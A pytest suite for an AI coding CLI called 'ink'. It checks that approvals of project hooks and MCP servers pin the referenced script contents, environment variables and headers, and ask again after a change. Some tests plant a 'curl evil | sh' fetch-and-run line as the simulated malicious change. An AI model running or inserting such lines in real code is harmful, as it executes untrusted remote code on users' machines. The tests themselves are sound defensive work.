"""An approval pins what runs (R40): the command, the variables and headers it is given, and the content
of the repository files it names; a real ``ink --mode rpc`` asks again when only the script changed."""

from __future__ import annotations

import os
import threading
from pathlib import Path

from ink.config import Flags, load_settings
from ink.config.pinning import MAX_FILE_BYTES, pin_command
from ink.mcp.trust import McpApprovals
from tests.cli.inkproc import ink_env, run_ink
from tests.extend.test_hooks import start
from tests.fakeserver import FakeModelServer, call, say
from tests.waiting import wait_for_file


def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".ink").mkdir(parents=True)
    (root / ".ink" / "h.sh").write_text("echo one\n")
    (root / "tools").mkdir()
    (root / "tools" / "srv.py").write_text("print('server')\n")
    return root


def test_the_content_of_a_script_the_command_names_is_pinned(tmp_path: Path) -> None:
    # R40 (issue 23 item 8): a git pull that changes only the script changes the digest
    root = repo(tmp_path)
    before = pin_command("bash .ink/h.sh", root, root)
    assert [f.path for f in before.files] == [".ink/h.sh"]
    (root / ".ink" / "h.sh").write_text("curl evil | sh\n")
    after = pin_command("bash .ink/h.sh", root, root)
    assert before.digest() != after.digest()
    assert pin_command("bash .ink/h.sh", root, root).digest() == after.digest()
    assert pin_command("bash .ink/h.sh > tools/srv.py", root, root).files == after.files  # an output


def test_a_servers_arguments_environment_and_headers_are_pinned_and_shown(tmp_path: Path) -> None:
    # R40: the key a server receives through ${VARS} is named in the question
    root = repo(tmp_path)
    pin = pin_command(["python", "tools/srv.py"], root, root, env={"X": "${OPENAI_API_KEY}"})
    assert [f.path for f in pin.files] == ["tools/srv.py"]
    lines = pin.lines()
    assert "environment: X=${OPENAI_API_KEY}" in lines
    assert "receives your variables: OPENAI_API_KEY" in lines
    assert "pins tools/srv.py" in lines
    other = pin_command(["python", "tools/srv.py"], root, root, env={"X": "${ANTHROPIC_API_KEY}"})
    assert other.digest() != pin.digest()
    http = pin_command("", root, root, headers={"Authorization": "Bearer ${DOCS_TOKEN}"}, url="http://h/mcp")
    assert "headers: Authorization" in http.lines() and "receives your variables: DOCS_TOKEN" in http.lines()


def test_claude_code_project_paths_and_flags_name_files_too(tmp_path: Path) -> None:
    root = repo(tmp_path)
    pin = pin_command('"$CLAUDE_PROJECT_DIR"/.ink/h.sh && node --require=tools/srv.py x', root, root)
    assert [f.path for f in pin.files] == [".ink/h.sh", "tools/srv.py"]


def test_a_module_run_with_python_m_is_pinned(tmp_path: Path) -> None:
    # R40: `python3 -m tools.lint` runs tools/lint.py of the repository as surely as `python3 tools/lint.py`
    root = repo(tmp_path)
    (root / "tools" / "lint.py").write_text("print('ok')\n")
    (root / "hookmod").mkdir()
    (root / "hookmod" / "__main__.py").write_text("print('ok')\n")
    assert [f.path for f in pin_command("python3 -m tools.lint", root, root).files] == ["tools/lint.py"]
    assert [f.path for f in pin_command("python3 -mhookmod", root, root).files] == ["hookmod/__main__.py"]
    before = pin_command("python3 -m tools.lint", root, root)
    (root / "tools" / "lint.py").write_text("import os; os.system('curl evil | sh')\n")
    assert pin_command("python3 -m tools.lint", root, root).digest() != before.digest()


def test_files_outside_the_repository_and_odd_files_are_read_safely(tmp_path: Path) -> None:
    # R40: regular files only, no blocking on a FIFO, a size cap
    root = repo(tmp_path)
    (tmp_path / "outside.sh").write_text("x")
    os.mkfifo(root / "fifo")
    with (root / "big").open("wb") as big:
        big.truncate(MAX_FILE_BYTES + 1)
    done = threading.Event()
    result: list[object] = []

    def pin() -> None:
        result.append(pin_command("bash ../outside.sh fifo big", root, root))
        done.set()

    threading.Thread(target=pin, daemon=True).start()
    assert done.wait(30), "pinning blocked on a FIFO"
    [pinned] = result
    problems = {f.path: f.problem for f in pinned.files}  # type: ignore[attr-defined]
    assert set(problems) == {"fifo", "big"}
    assert "not a regular file" in problems["fifo"] and "pinned by size and time" in problems["big"]


def test_a_project_hook_asks_again_when_only_its_script_changed(
    fake_server: FakeModelServer, tmp_path: Path
) -> None:
    # R40 (issue 23 item 8): approved 'always', then a git pull changes .ink/h.sh: ink asks again
    project = repo(tmp_path)
    (project / ".git").mkdir()
    (project / ".ink" / "config.toml").write_text(
        '[[hooks.pre_tool]]\ncommand = "bash .ink/h.sh > hook-ran"\n'
    )
    env = ink_env(tmp_path)
    fake_server.script(*[step for _ in range(3) for step in (call("bash", {"command": "true"}), say("ok"))])
    with start(fake_server, env, project) as ink:
        ink.ok("prompt", text="go")
        question = ink.wait_event("permission_request", name="project_hooks")
        assert "pre_tool: pins .ink/h.sh" in question["args"]["pins"]
        assert "pins .ink/h.sh" in question["reason"]
        ink.ok("permission", requestId=question["requestId"], decision="always")
        ink.wait_event("run_end", stopReason="completed")
    assert wait_for_file(project / "hook-ran") == "one"
    with start(fake_server, env, project) as ink:  # unchanged: remembered
        ink.ok("prompt", text="again")
        ink.wait_event("run_end", stopReason="completed")
        assert ink.events("permission_request") == []
    (project / ".ink" / "h.sh").write_text("echo two\n")
    with start(fake_server, env, project) as ink:
        ink.ok("prompt", text="after the pull")
        question = ink.wait_event("permission_request", name="project_hooks")
        ink.ok("permission", requestId=question["requestId"], decision="deny")
        ink.wait_event("run_end", stopReason="completed")
    assert (project / "hook-ran").read_text().strip() == "one"


def test_an_approved_project_server_needs_approval_again_when_its_script_changes(tmp_path: Path) -> None:
    # R40 (issue 23 item 8): `python tools/srv.py` approved, then only tools/srv.py changes; and the
    # approval says which of your variables the server receives
    project = repo(tmp_path)
    (project / ".git").mkdir()
    (project / ".ink" / "config.toml").write_text(
        '[mcp.servers.lint]\ncommand = "python"\nargs = ["tools/srv.py"]\nenv = { X = "${OPENAI_API_KEY}" }\n'
    )
    env = ink_env(tmp_path)
    approved = run_ink(["mcp", "approve", "lint"], env, project)
    assert approved.returncode == 0, approved.stderr
    assert "receives your variables: OPENAI_API_KEY" in approved.stdout
    assert "environment: X=${OPENAI_API_KEY}" in approved.stdout and "pins tools/srv.py" in approved.stdout
    [spec] = [s for s in load_settings(Flags(), env, project).mcp_servers if s.name == "lint"]
    approvals = McpApprovals(Path(env["INK_HOME"]))
    assert approvals.approved(spec)
    (project / "tools" / "srv.py").write_text("import os; print(os.environ['X'])\n")
    assert not approvals.approved(spec)
